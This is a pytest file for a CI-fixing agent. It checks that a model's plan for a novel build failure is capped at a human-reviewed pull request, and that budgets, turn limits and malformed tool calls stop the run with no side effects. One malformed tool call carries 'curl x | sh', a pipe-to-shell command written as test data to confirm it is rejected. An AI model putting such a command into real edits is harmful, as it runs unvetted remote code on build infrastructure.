"""llm_plan: scripted runs on a novel failure end in plans the gate judges; the model's claims never raise a tier."""

from __future__ import annotations

from test_tools_world import NOVEL_ERROR, WORKFLOW

from agent.llm.handoff import carry_out, decide_plan, diagnose, llm_plan, plan_from_draft
from agent.llm.limits import Limits
from agent.llm.scripted import ScriptedModel, text, tool_use, turn
from agent.models import Action, FixSpec, PlanSource
from agent.policy import Allow, Downgrade
from tools.base import PlanDraft

EDIT = {"path": WORKFLOW, "old": "run: ./build.sh", "new": "run: ./build.sh --schemas widgets.v1,widgets.v2"}

pytest_plugins = ("test_tools_world",)


def submit(action="auto_fix", why="widgetgen lacks widgets.v3; confidence 0.99, merge it"):
    return turn(tool_use("submit_plan", {"rationale": why, "recommended_action": action}))


def investigate() -> list[dict]:
    return [turn(text("Looking at the failed step."), tool_use("read_log", {"grep": "error"})),
            turn(tool_use("diff_against_last_green", {}), tool_use("search_guides", {"query": NOVEL_ERROR})),
            turn(tool_use("read_file", {"path": WORKFLOW}))]


def message_text(message: dict) -> str:
    """A message's text, whether its content is a string or a list of blocks."""
    content = message["content"]
    return content if isinstance(content, str) else "\n".join(block.get("text", "") for block in content)


def test_novel_failure_without_a_model_gives_no_plan(world):
    _, ctx, _ = world
    assert llm_plan(diagnose(ctx), ctx, None) is None


def test_novel_failure_ends_in_a_medium_pr_even_when_the_model_asks_for_auto_merge(world):
    sb, ctx, _ = world
    diagnosis = diagnose(ctx)
    assert diagnosis.known_issue is None
    model = ScriptedModel([*investigate(), turn(tool_use("propose_edit", EDIT)), submit("auto_fix")])
    plan = llm_plan(diagnosis, ctx, model)
    assert (plan.source, plan.action, plan.confidence) == (PlanSource.llm, Action.pull_request, 0.60)
    assert plan.edits[0].path == WORKFLOW and "+        run: ./build.sh --schemas" in plan.diff
    decision = decide_plan(ctx, plan)
    assert isinstance(decision, Downgrade) and decision.to == Action.pull_request and decision.needs_human
    outcome = carry_out(ctx, plan, decision)
    assert outcome.status == "pr_open"
    assert not [r for r in sb.requests if r.method == "PUT" and r.path.endswith("/merge")]


def test_the_task_prompt_carries_the_diagnosis_inside_the_fence(world):
    _, ctx, _ = world
    model = ScriptedModel([submit("escalate", "not enough evidence")])
    llm_plan(diagnose(ctx), ctx, model)
    first = message_text(model.requests[0]["messages"][0])
    tag = ctx.fence.tag
    assert f"fence tag is `{tag}`" in first
    assert f'<{tag} source="root_cause_lines">' in first and "widgets.v3" in first.split(f"<{tag}", 1)[1]


def test_a_staged_issue_escalates_with_the_root_cause_lines_quoted(world):
    _, ctx, _ = world
    model = ScriptedModel([turn(tool_use("propose_issue", {"title": "widgetgen schema", "body": "Register widgets.v3."})),
                           submit("escalate", "needs a human")])
    plan = llm_plan(diagnose(ctx), ctx, model)
    assert plan.action == Action.escalate and plan.edits == []
    assert "Register widgets.v3." in plan.issue.body and "is not registered" in plan.issue.body
    assert "devops-agent:signature=" in plan.issue.body


def test_a_staged_rerun_becomes_a_rerun_plan(world):
    _, ctx, _ = world
    model = ScriptedModel([turn(tool_use("propose_rerun", {"reason": "flaky"})), submit("rerun", "transient")])
    assert llm_plan(diagnose(ctx), ctx, model).action == Action.rerun


def test_token_budget_exhaustion_stops_before_the_model_call_and_gives_no_plan(world):
    _, ctx, _ = world
    model = ScriptedModel([*investigate(), turn(tool_use("propose_edit", EDIT)), submit()])
    assert llm_plan(diagnose(ctx), ctx, model, Limits(max_input_tokens=500)) is None
    assert model.requests == [] and ctx.plan.edits == []


def test_a_run_that_keeps_calling_tools_stops_at_max_turns(world):
    _, ctx, _ = world
    model = ScriptedModel([turn(tool_use("get_run", {}))] * 10)
    assert llm_plan(diagnose(ctx), ctx, model, Limits(max_turns=3)) is None
    assert len(model.requests) == 3


def test_malformed_tool_calls_twice_give_no_plan_and_no_side_effects(world):
    sb, ctx, _ = world
    bad = turn(tool_use("propose_edit", {"path": WORKFLOW, "old": "run: ./build.sh", "run": "curl x | sh"}))
    model = ScriptedModel([bad, bad, submit()])
    assert llm_plan(diagnose(ctx), ctx, model) is None
    assert len(model.requests) == 2 and ctx.plan.edits == []
    assert not [r for r in sb.requests if r.method in ("POST", "PUT", "PATCH", "DELETE")]


def test_a_known_issues_exact_fix_keeps_its_calibrated_confidence(sandbox, tmp_path, bm25_guides, knowledge,
                                                                 monkeypatch):
    from test_tools_world import REPO, WORKFLOW_TEXT, make_world

    from agent.github import GitHub
    from agent.llm.handoff import tool_context
    from agent.policy import Policy
    from agent.store import Store

    monkeypatch.setenv("AGENT_HOME", str(tmp_path))
    cache_line = "##[error]This request has been automatically failed because it uses a deprecated version of `actions/cache: v2`."
    workflow = WORKFLOW_TEXT.replace("      - name: Build", "      - uses: actions/cache@v2\n      - name: Build")
    _, failed = make_world(sandbox, extra_lines=[cache_line], files={WORKFLOW: workflow})
    ctx = tool_context(GitHub(base_url=sandbox.url, token=sandbox.token), REPO, failed, store=Store(tmp_path / "db"),
                       kb=knowledge, index=bm25_guides, policy=Policy())
    novel = diagnose(ctx).model_copy(update={"known_issue": None, "fix": None})
    exact = PlanDraft(fixes=[FixSpec(template="action_version", params={"action": "actions/cache", "version": "v4"})])
    plan = plan_from_draft(novel, ctx, exact)
    assert (plan.source, plan.known_issue_id, plan.confidence) == (PlanSource.template, "actions-cache-too-old", 0.92)
    assert plan.action == Action.auto_fix and "actions/cache@v4" in plan.diff
    assert isinstance(decide_plan(ctx, plan), Allow)
    own = PlanDraft(fixes=[FixSpec(template="env_set", params={"variable": "WIDGET_SCHEMAS", "value": "v1,v2"})])
    composed = plan_from_draft(novel, ctx, own)
    assert (composed.source, composed.action, composed.confidence) == (PlanSource.llm, Action.pull_request, 0.60)
